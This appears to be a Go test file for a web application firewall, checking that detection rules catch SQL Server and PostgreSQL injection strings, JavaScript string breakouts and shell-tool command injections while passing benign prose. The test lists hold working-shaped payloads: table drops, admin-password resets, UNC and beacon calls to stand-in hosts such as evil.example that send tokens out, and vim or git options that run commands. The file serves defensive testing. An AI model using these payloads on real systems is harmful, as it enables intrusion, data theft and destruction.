package waf

import (
	"testing"
)

// tsqlQuotedNameAttacks are attack 75's SQL Server statements whose names
// stand in double quotes (a name to SQL Server, whose connections turn
// QUOTED_IDENTIFIER on; a string to libinjection), which 210201 did not
// read: EXEC of any procedure, UPDATE ... SET, WHILE with a statement and
// no BEGIN (a loop, or a condition timed).
var tsqlQuotedNameAttacks = []string{`x' exec "sp_executesql" N'drop table users'--`, `x'exec"sp_executesql"N'drop table users'--`,
	`x' exec "sp_executesql" @stmt=N'shutdown'--`, `x' exec "sp_password" null,'new','sa'--`, `x' exec "xp_dirtree" '\\evil.example\a'--`,
	`x') exec "xp_fileexist" '\\evil.example\a'--`, `1 exec "xp_dirtree" '\\evil.example\a'`, `x' exec "sp_msforeachtable" 'drop table ?'--`,
	`x' exec "sp_start_job" 'j'--`, `x' exec "sp_addsrvrolemember" u, sysadmin--`, `x' update "users" set "is_admin"=1--`,
	`x' update users set "pw"=''--`, `x') update "users" set a=1--`, `x' if 1=1 update "users" set a=1--`, `1 update "users" set "is_admin"=1`,
	`x' while exists(select 1 from "users" where "pw" like 'a%') print 1--`, `x' while 1=1 select 1--`}

// pgConversionAttacks are attack 75's PostgreSQL conversions whose error
// shows the value (run on PostgreSQL 15 by the attacker), joined to a
// closed quote or in a numeric slot.
var pgConversionAttacks = []string{"x'||int4in(password::cstring)||'", "x'||inet(password)||'", `1-password::"int4"`, "1 and password::regclass>0",
	`x'||"int4"(password)||'`}

// tsqlQuotedNameBenign are prose near them.
var tsqlQuotedNameBenign = []string{"Parents' exec committee meets Friday", "The team's update the page set for Monday",
	"We'll update users set by the admin", "Mom's while loop example", "I'll exec it tomorrow", "Kids' update: the set is ready",
	`Don't exec "rm" please`, "They're exec producers, it's a 'job'", "std::string is a type", "Use Foo::Bar here", "1-std::cout",
	"It's 'a'||b::c||'d'", "i32::MAX or u8::from"}

// TestTSQLQuotedNames: rules 210201 and 210200 refuse attack 75's SQL
// Server statements and PostgreSQL conversions through a real Caddy (in
// the query and JSON), and none of the near-misses.
func TestTSQLQuotedNames(t *testing.T) {
	operatorTable(t, "210201", func(v string) bool { return tsqlStatement(v) || numberOperand(v) }, append(tsqlQuotedNameAttacks, pgConversionAttacks...),
		[]string{`x' exec @r = "sp_x" 1--`, "x'||password::int||'", "x'+password::regclass+'"}, tsqlQuotedNameBenign)
}

// jsStringAttacks are attack 75's JavaScript string breakouts (a value
// written into var s = '<value>') and others of the shape.
var jsStringAttacks = []string{"'-location.assign(atob`amF2YXNjcmlwdDphbGVydCgxKQ`)-'", "'-location.replace(name)-'", `"-location.assign(name)-"`,
	"');navigator.sendBeacon('//evil',localStorage.token);//", "'-top.location.assign(name)-'", "'-document.location.assign(name)-'",
	"'-new Image().src='//x/'+localStorage.t-'"}

// jsStringBenign are prose and code near them.
var jsStringBenign = []string{"He said 'hi' - then left", "'A' + 'B' is AB", "'Hi' - print it", "Python's 'r' + open(file)",
	"Use 'x' + document.title for the name", "The 'Save' - fetch button", "'ok' - alert me later", "Set 'a', then location is home",
	`"Quote" - Navigator magazine`, "Rock 'n' roll - top 10"}

// TestJSStringBreakout: rule 210203 refuses jsStringAttacks through a
// real Caddy (in the query and JSON), and none of jsStringBenign.
func TestJSStringBreakout(t *testing.T) {
	operatorTable(t, "210203", jsStringBreakout, jsStringAttacks, []string{"'-alert(1)-'", "';fetch('//x?'+localStorage.token)//",
		`";location='javascript:alert(1)';//`}, jsStringBenign)
}

// TestCPUBoundJSString: repetitions of rule 210203's shapes cost what any
// value of their size does (each quote is read on over a few bytes).
func TestCPUBoundJSString(t *testing.T) {
	repeatedJSONUnder(t, "'-", "')))))))-", "'-window.", "'-document.location.", "'---- ", "'-location.x ", "'-eval ", "'-eval(", "'-/*", "'-[eval,", "'-a.b.c.d.e.f ")
}

// FuzzJSStringBreakout: any value is read without a panic.
func FuzzJSStringBreakout(f *testing.F) {
	for _, v := range concat(jsStringAttacks, jsStringBenign, jsSinkAnywhereAttacks, jsSinkAnywhereBenign, jsSinkAnywhereBenignCRS) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { jsStringBreakout(v) })
}

// shellToolAttacks are attack 75's commands given to a tool by an option
// (vim ran :!env with no terminal, git ran core.sshCommand: both run by
// the attacker), and others of the kind.
var shellToolAttacks = []string{"x;vim -es -c ':!env' -c ':q!'", "127.0.0.1;vim -es -c ':!ps aux'", "x;vi -c ':!id'", "x;nvim --headless -c ':!id'",
	"x|vim +':!id' +q", "x;git -c core.sshCommand=id ls-remote ssh://x/y", "x;git -c core.pager=id log", "x;git -c core.fsmonitor=id status",
	"x;git -ccore.pager=id log", "x;zip z.zip x -T -TT 'id #'"}

// shellToolBenign are prose and commands near them.
var shellToolBenign = []string{"Use vim -c to run a command", "See git -c core.pager=less for paging", "x;vim file.txt -c ':wq'",
	"Run git -c user.name=me commit", "x;git -c user.email=a@b.c commit", "x;zip -r out.zip dir"}

// TestShellToolCommand: rule 210193 refuses shellToolAttacks through a
// real Caddy (in the query and JSON), and none of shellToolBenign.
func TestShellToolCommand(t *testing.T) {
	operatorTable(t, "210193", shellPrefixed, shellToolAttacks, []string{"x;git -c alias.x='!id' x"}, shellToolBenign)
}

// sortSlotAttacks are attack 75's sort values (run on PostgreSQL 15 by
// the attacker): conversions whose error shows the value, and a CASE that
// tests a column.
var sortSlotAttacks = []string{"password::time", "password::timetz", "password::tid", "password::pg_lsn", "cast(password as interval)",
	"cast(password as oid)", "inet(password)", "id, int4in(textout(password))", "case when password like 'a%' then id else name end",
	"case when password like 'a%' then 1 else 1/0 end"}

// TestSortSlotReview: rules 210202 and 210201 refuse sortSlotAttacks
// through a real Caddy.
func TestSortSlotReview(t *testing.T) {
	operatorTable(t, "210202", func(v string) bool { return sortListProbe(v) || tsqlStatement(v) }, sortSlotAttacks,
		[]string{"name, case when substr(password,1,1)='a' then 1 else 2 end desc"}, []string{"name desc, price asc",
			"-created_at,name", "In case you wonder, sort by name", "case-insensitive name", "Case closed when the tests pass, then we end the sprint",
			"Case study: when to refactor, then what? The end"})
}

// TestCPUBoundShellTool: repetitions of shellToolCommand's shapes cost
// what any value of their size does (a tool's words are read within
// shellToolWindow bytes of each separator).
func TestCPUBoundShellTool(t *testing.T) {
	repeatedJSONUnder(t, ";vim ", ";git -c ", ";vim -c 'x' ", ";zip a ", "; git -c a=b -c c=d ", ";vim +x +y +z ", ";git 'a", ";vim -c ';", ";git \"-c;\" ")
}
